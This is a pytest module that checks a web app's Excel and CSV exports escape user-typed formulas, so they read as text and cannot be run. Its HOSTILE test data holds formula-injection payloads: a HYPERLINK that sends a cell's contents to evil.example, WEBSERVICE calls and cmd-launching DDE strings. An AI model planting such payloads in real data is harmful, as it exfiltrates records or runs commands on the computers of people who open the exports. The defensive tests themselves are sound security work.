"""Every spreadsheet the app hands out keeps typed text as text (issue 20, item 3).

A title typed as ``=HYPERLINK("http://…"&A2,"Klik")`` came out of /dashboard/export/requests as
a live formula: whoever opened the register sent its rows to that address. Each export is read
back as its user's spreadsheet would read it (openpyxl for the .xlsx files, csv for the CSV
files): no formula cell, no text starting like one; figures and dates stay figures and dates.

The data of this module lives in August 2047 (local time, WIB) and the catalogue year 2184: no
other test stamps anything then.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.models import ActivityRequest, GuestBookEntry
from app.reports import exports, sheet_cells
from app.reports import figures as reports

from conftest import OFFICE_X, seed

PERIOD = {"start": "2047-08-01", "end": "2047-08-31"}
YEAR = 2184
# What an attacker types: Excel's and LibreOffice's formula starts (OWASP's list).
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
    "agency_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name": "+cmd|' /C calc'!A0",
    "id_doc_number": "=1+1",
    "agency": "\t=HYPERLINK(\"http://evil.example\")",
    "phone": "-2+3+cmd|' /C calc'!A0",
    "email": "=WEBSERVICE(\"http://evil.example\")",
    "purpose": "\r=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Digits, spaces, brackets, dots and dashes cannot call anything: "+62 733 323693" may stay.
HARMLESS = re.compile(r"[+-]?[0-9 ().-]*")


def _live(text: str) -> bool:
    return text.startswith(FORMULA_START) and not HARMLESS.fullmatch(text)


@pytest.fixture(scope="module")
def hostile(app, world, wf):
    """A request of office X recorded complete in August 2047 (in the catalogue, year YEAR)
    and a guest of that month, every text field of theirs typed like a formula."""
    with app.app_context():
        session = app.appbuilder.session
        pk = seed(session, world, wf, "sent")
        req = session.get(ActivityRequest, pk)
        req.office_id = world.offices[OFFICE_X]
        req.created_at = req.submitted_at = req.complete_at = dt.datetime(2047, 8, 4, 2)
        req.title, req.agency_name, req.year = HOSTILE["title"], HOSTILE["agency_name"], YEAR
        req.sector, req.sector_other = "other", "-Pertanian"  # a sector of none of BPS's
        session.add(GuestBookEntry(
            office_id=world.offices[OFFICE_X], visited_at=dt.datetime(2047, 8, 5, 2),
            id_doc_type="ktp", **{k: HOSTILE[k] for k in (
                "name", "id_doc_number", "agency", "phone", "email", "purpose")}))
        session.commit()
        tracking = req.tracking_code
        session.remove()
    return tracking


def _cells(response):
    """Every cell of the workbook: (coordinate, data type, value)."""
    assert response.status_code == 200, response.status_code
    book = load_workbook(io.BytesIO(response.data))
    return [(c.coordinate, c.data_type, c.value) for ws in book.worksheets
            for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula(cells) -> None:
    formulas = [c for c in cells if c[1] == "f" or (isinstance(c[2], str) and _live(c[2]))]
    assert not formulas, formulas


@pytest.mark.parametrize("office", ["x", "every"])
def test_the_request_register_keeps_a_typed_formula_as_text(app, world, clients, hostile,
                                                            office):
    args = {**PERIOD, "office": str(world.offices[OFFICE_X]) if office == "x" else ""}
    cells = _cells(clients["admin"].get("/dashboard/export/requests", query_string=args))
    _no_formula(cells)
    texts = {c[2] for c in cells}
    # Still there to read, as text.
    assert "'" + HOSTILE["title"] in texts and "'" + HOSTILE["agency_name"] in texts
    # The dates are still dates.
    assert dt.datetime(2047, 8, 4) in texts


def test_the_guest_book_workbook_keeps_typed_formulas_as_text(app, world, clients, hostile):
    cells = _cells(clients["officer_x"].get("/dashboard/export/guestbook",
                                            query_string=PERIOD))
    _no_formula(cells)
    texts = {c[2] for c in cells}
    for key in ("name", "agency", "phone", "email", "purpose"):
        assert "'" + HOSTILE[key] in texts, key
    assert any(isinstance(v, str) and v.endswith(HOSTILE["id_doc_number"]) for v in texts)
    assert dt.datetime(2047, 8, 5, 9) in texts  # the visit, a date and time on WIB's clock


def test_the_ikm_workbook_keeps_the_office_as_text_and_figures_as_numbers(app):
    result = reports.Ikm(elements=(3.5,) * 9, index=3.5, converted=87.5, grade="B",
                         grade_label="Baik", respondents=2)
    with app.test_request_context():
        data = exports.ikm_xlsx(result, office="=HYPERLINK(\"http://evil.example\")",
                                period="-1 bulan")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [(c.coordinate, c.data_type, c.value) for row in sheet.iter_rows() for c in row
             if c.value is not None]
    _no_formula(cells)
    values = [c[2] for c in cells]
    assert "'=HYPERLINK(\"http://evil.example\")" in values and "'-1 bulan" in values
    assert values.count(3.5) >= 10 and 87.5 in values and 2 in values


def test_the_guest_book_csv_keeps_typed_formulas_as_text(clients, hostile):
    response = clients["officer_x"].get("/guestbookentryview/export",
                                        query_string={"start": "2047-08-05",
                                                      "end": "2047-08-05"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _live(c)], cells
    assert "'" + HOSTILE["name"] in cells and "'" + HOSTILE["purpose"] in cells


def test_the_catalogue_csv_keeps_typed_formulas_as_text(app, hostile):
    response = app.test_client().get("/api/v1/catalogue/download.csv",
                                     query_string={"year": YEAR})
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _live(c)], cells
    assert "'" + HOSTILE["title"] in cells and "'-Pertanian" in cells


@pytest.mark.parametrize("value", [
    -5, -2.75, Decimal("-1.5"), 0, dt.date(2047, 8, 1), dt.datetime(2047, 8, 1, 9), None,
    True,
])
def test_numbers_and_dates_stay_as_they_are(value):
    """A negative number is a number, not a formula."""
    assert sheet_cells.cell(value) is value


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("+62 733 323693", "+62 733 323693"), ("-5", "-5"), ("Survei = sensus", "Survei = sensus"),
    ("", ""),
])
def test_one_rule_for_text(text, shown):
    assert sheet_cells.cell(text) == shown
    assert sheet_cells.safe_text(text) == shown


def test_a_negative_figure_in_a_workbook_stays_a_number(app):
    """Through an export's own writer: figures are written as numbers, never as text."""
    result = reports.Ikm(elements=(-1.25,) * 9, index=-1.25, converted=-31.25, grade=None,
                         grade_label="", respondents=0)
    with app.test_request_context():
        sheet = load_workbook(io.BytesIO(exports.ikm_xlsx(result))).active
    figures = [c for row in sheet.iter_rows() for c in row if c.value in (-1.25, -31.25)]
    assert len(figures) >= 10 and all(c.data_type == "n" for c in figures)
